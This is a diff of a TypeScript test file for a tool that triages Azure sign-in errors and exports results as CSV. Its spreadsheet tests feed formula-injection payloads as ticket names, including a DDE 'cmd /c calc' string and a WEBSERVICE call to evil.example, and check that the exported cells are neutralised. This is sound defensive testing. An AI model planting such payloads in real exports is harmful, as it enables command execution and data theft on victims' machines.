@@ -1,7 +1,7 @@
 import Papa from 'papaparse'
 import { describe, expect, test } from 'vitest'
 import { summarise } from '../../src/triage/summary.ts'
-import { columns, csvOf, rowOf } from '../../src/triage/table.ts'
+import { columns, csvOf, type Row, rowOf } from '../../src/triage/table.ts'
 import { type Found, triage } from '../../src/triage/triage.ts'
 import { clara, clientId, noon, otherClientId, tenant } from '../builders.ts'
 import { authorize, entry, har } from './recordings.ts'
@@ -30,10 +30,10 @@ const log = (id: string, errorCode: number, appId = clientId) => ({
   status: { errorCode, failureReason: 'see there' },
 })
 
-describe('finds the cause', () => {
-  test('of one text', async () => {
+describe('triage finds the cause', () => {
+  test('of a text', async () => {
     const { all } = await read('AADSTS90094')
-    expect(all).toMatchObject([{ name: null, at: null, cause: 'admin-approval', facts: { code: '90094' } }])
+    expect(all).toMatchObject([{ name: null, at: null, cause: 'admin-approval', fields: { code: '90094' } }])
   })
   test('of each entry of a sign-in log', async () => {
     const list = [log('a', 90094), log('b', 0), log('c', 50105), log('d', 50105, otherClientId)]
@@ -61,44 +61,65 @@ describe('finds the cause', () => {
     )
     expect(all).toMatchObject([{ name: 'help', cause: 'admin-approval' }])
   })
-  test('of each attempt in a recording, whatever pieces it comes in', async () => {
+  test('of each attempt in a recording, in pieces of any size', async () => {
     const text = JSON.stringify(
-      har(entry({ url: authorize() }), entry({ url: page, html: stop, second: 2 })),
+      har(entry({ url: authorize() }), entry({ url: page, html: approvalPage, second: 2 })),
       null,
       1,
     )
     for (const size of [1, 13, 100_000])
       expect((await read(`\uFEFF${text}`, size)).all).toMatchObject([{ cause: 'admin-approval', at: noon }])
   })
-  test('of a recording that breaks off, up to there', async () => {
+  test('of the attempts before the point where a recording breaks off', async () => {
     const text = JSON.stringify(
-      har(entry({ url: authorize() }), entry({ url: page, html: stop, second: 2 }), {}),
+      har(entry({ url: authorize() }), entry({ url: page, html: approvalPage, second: 2 }), {}),
     )
     const { all, reason } = await read(text.slice(0, -5))
     expect(all).toMatchObject([{ cause: 'admin-approval' }])
     expect(reason).toBe('broken-off')
   })
-  test('and says where there is nothing', async () => {
-    expect(await read(' \n')).toEqual({ all: [], reason: 'empty' })
-  })
+})
+
+test('an empty source is an error', async () => {
+  expect(await read(' \n')).toEqual({ all: [], reason: 'empty' })
+})
+
+test('the time in a text beats the time of its ticket, unless it lies in the future', async () => {
+  const text = (timestamp: string) => `AADSTS50105: no. Timestamp: ${timestamp}`
+  const { all } = await read(
+    JSON.stringify([
+      { id: 'past', created: '2026-11-20T08:15:00Z', input: text('2026-11-19T07:00:00Z') },
+      { id: 'future', created: '2026-11-20T08:15:00Z', input: text('2199-01-01T00:00:00Z') },
+      { id: 'none', input: 'AADSTS50105' },
+    ]),
+  )
+  const [past, created] = [Date.UTC(2026, 10, 19, 7), Date.UTC(2026, 10, 20, 8, 15)]
+  expect(all.map(({ at, attempt }) => [at, attempt?.startedAt])).toEqual([
+    [past, past],
+    [created, created],
+    [null, noon],
+  ])
 })
 
 const page = 'https://login.microsoftonline.com/common/login'
-const stop = '<meta name="PageID" content="ConvergedConsent"><script>$Config={"iErrorCode":90094};\n</script>'
+const approvalPage =
+  '<meta name="PageID" content="ConvergedConsent"><script>$Config={"iErrorCode":90094};\n</script>'
 
-describe('many at once', () => {
-  const forms = [
+const emptyRow = Object.fromEntries(columns.map((column) => [column, ''])) as Row
+
+describe('a table of many results', () => {
+  const inputs = [
     'AADSTS90094',
     'AADSTS50105',
     'https://app.clara.com/cb?error=access_denied&error_subcode=cancel',
     'hello',
   ]
 
-  test('10,000 mixed tickets are counted, and the table for a spreadsheet gives the same numbers', async () => {
+  test('has the same counts as the summary for 10,000 mixed tickets', async () => {
     const lines = Array.from({ length: 10_000 }, (_, index) =>
       JSON.stringify({
         id: `=cmd|'/c calc'!A${index}`,
-        input: forms[index % 4],
+        input: inputs[index % 4],
         date: `2026-11-${10 + (index % 3)}`,
       }),
     )
@@ -127,25 +148,22 @@ describe('many at once', () => {
     expect(data[7]?.name).toBe("'=cmd|'/c calc'!A7")
   })
   test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '＝1+1', '＠x'])(
-    '%j is no formula in a spreadsheet',
+    'contains no formula for a spreadsheet: %j',
     (name) => {
-      const [found] = [
-        { name, at: null, cause: 'no-stop', facts: { codes: [] }, attempt: null, diagnosis: null },
-      ]
-      const row = { ...rowOf(found as unknown as Found), name }
+      const row = { ...emptyRow, name }
       const cells = Papa.parse<string[]>(csvOf([row]).slice(1)).data[1] ?? []
       for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
     },
   )
   test.each(['c;=WEBSERVICE("http://evil.example/")', 'a\t@x', 'x; "=1', 'a|+1'])(
-    '%j is no formula where other signs part the cells',
+    'contains no formula for other separators than commas: %j',
     async (name) => {
       const { all } = await read(JSON.stringify([{ id: name, input: 'AADSTS90094' }]))
       const [, line = ''] = csvOf(all.map(rowOf)).split('\r\n')
       for (const cell of line.split(/[;\t|,]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/)
     },
   )
-  test('what looks like a secret in a name is in no table', async () => {
+  test('contains no secret from the name of a ticket', async () => {
     const { all } = await read(
       '{"id":"ana@contoso.example code=SECRETSECRET","input":"AADSTS90094"}\n{"id":1,"input":"x"}',
     )
